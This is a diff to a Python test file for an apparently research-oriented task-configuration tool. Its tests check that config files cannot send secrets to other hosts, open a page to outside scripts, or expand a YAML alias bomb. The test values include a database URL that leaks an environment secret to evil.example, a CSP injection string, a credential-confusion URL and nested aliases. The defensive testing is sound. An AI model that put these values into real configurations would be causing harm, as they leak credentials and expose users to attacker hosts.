@@ -15,6 +15,7 @@ from mephisto_nb.config import foreign_settings
 from mephisto_nb.config.foreign_settings import resolvers_in
 from mephisto_nb.config.task_run_settings import resolve_config
 from mephisto_nb.errors import ConfigError, DataFileError
+from mephisto_nb.utils import logging
 
 SECRET = "sesame"
 TASK = {"task_name": "a", "task_title": "A", "task_description": "", "task_tags": "", "task_reward": 0.1}
@@ -28,6 +29,7 @@ ADDRESS = "mephisto.database.url='postgresql://lab:${oc.env:MY_SECRET}@host/name
 def environment(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
     monkeypatch.setenv("MY_SECRET", SECRET)
     OmegaConf.register_new_resolver("mine", lambda name: os.environ.get(name, ""), replace=True)
+    monkeypatch.setattr(logging, "_warned", set())
     yield
     OmegaConf.clear_resolver("mine")
 
@@ -81,7 +83,7 @@ def test_a_file_calls_no_function(home: Path, call: str, key: str) -> None:
         "task_dir: ${oc.env:MY_SECRET}\n",
         "mephisto: {architect: {port: '${oc.env:MY_SECRET}'}}\n",
         "mephisto: {database: {url: 'postgresql://evil.example/${oc.env:MY_SECRET}'}}\n",
-        "mephisto: {blueprint: {extra_sources: ['${oc.env:MY_SECRET}']}}\n",
+        "mephisto: {blueprint: {time_columns: ['${oc.env:MY_SECRET}']}}\n",
         "hydra: {run: {dir: '${oc.env:MY_SECRET}'}}\n",
         "'${oc.env:MY_SECRET}': 1\n",
     ],
@@ -310,8 +312,63 @@ def test_only_the_researcher_opens_a_way_out_of_a_preview(home: Path) -> None:
         resolve_config(mnb.compose("mock", task={**TASK, "preview_sources": ["*; script-src *"]}))
 
 
+@pytest.mark.parametrize("key", ["extra_script_sources", "extra_sources"])
+def test_only_the_researcher_lets_scripts_of_others_run(home: Path, key: str) -> None:
+    with pytest.raises(ConfigError, match=rf"sets {key}, which only you can.*blueprint_args="):
+        compose(home, SECTION.replace("_blueprint_type", f"{key}: ['https://evil.example'], _blueprint_type"))
+
+
+OTHER_HOSTS = [
+    "url: 'https://evil.example/'", "url: 'http://localhost@evil.example/'", "addresses: [localhost, evil.example]",
+    "frame_ancestors: ['*']", "frame_ancestors: ['https:']", "url: 'https://${mephisto.task.task_tags}/'",
+    "url: '${mephisto.task.task_title}'",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("setting", OTHER_HOSTS)
+def test_a_file_leads_workers_to_no_other_host(home: Path, setting: str) -> None:
+    text = f"{SECTION}  architect: {{{setting}}}\n".replace("task_name: a", "task_name: a, task_tags: evil.example")
+    with pytest.raises(ConfigError, match=r"mephisto\.architect\.\w+ .*architect_args="):
+        compose(home, text)
+
+
+def test_the_researcher_names_hosts_in_the_notebook(home: Path) -> None:
+    text = f"{SECTION}  architect: {{url: 'https://evil.example/'}}\n"
+    mine = "https://lab.example/"
+    assert compose(home, text, architect_args={"url": mine}).mephisto.architect.url == mine
+    assert compose(home, text, overrides=[f"mephisto.architect.url={mine}"]).mephisto.architect.url == mine
+
+
+def test_a_file_may_say_what_stays_on_this_computer(home: Path, caplog: pytest.LogCaptureFixture) -> None:
+    here = "{url: 'http://localhost:3000/', addresses: [127.0.0.1], frame_ancestors: [\"'self'\"], port: '3000'}"
+    config = compose(home, f"{SECTION}  architect: {here}\n  provider: {{signed_links: true}}\n")
+    assert config.mephisto.architect.url == "http://localhost:3000/"
+    assert caplog.text == ""
+
+
+def test_what_a_file_opens_is_said(home: Path, caplog: pytest.LogCaptureFixture) -> None:
+    text = f"{SECTION}  architect: {{hostname: 0.0.0.0}}\n  provider: {{signed_links: false}}\nnum_tasks: 77\n"
+    compose(home, text, architect_args={"hostname": "0.0.0.0"}, provider_args={"signed_links": False})
+    assert caplog.text == ""
+    compose(home, text)
+    assert "lets others than this computer ask the router (mephisto.architect.hostname is '0.0.0.0')" in caplog.text
+    assert "lets everybody come under any name" in caplog.text
+
+
+def test_a_router_without_a_name_is_open_too(home: Path, caplog: pytest.LogCaptureFixture) -> None:
+    compose(home, f"{SECTION}  architect: {{hostname: ''}}\n")
+    assert "lets others than this computer ask the router" in caplog.text
+
+
 def test_a_file_of_aliases_without_end_is_refused(home: Path) -> None:
     lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
     lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
     with pytest.raises(ConfigError, match="stands for more than"):
+        compose(home, "\n".join(lines))
+
+
+def test_a_few_lines_do_not_stand_for_many_settings(home: Path) -> None:
+    lines = ["a0: &a0 [1, 1, 1, 1, 1, 1, 1, 1, 1, 1]"]
+    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 5)]
+    with pytest.raises(ConfigError, match="stands for more than 50,000 values"):
         compose(home, "\n".join(lines))
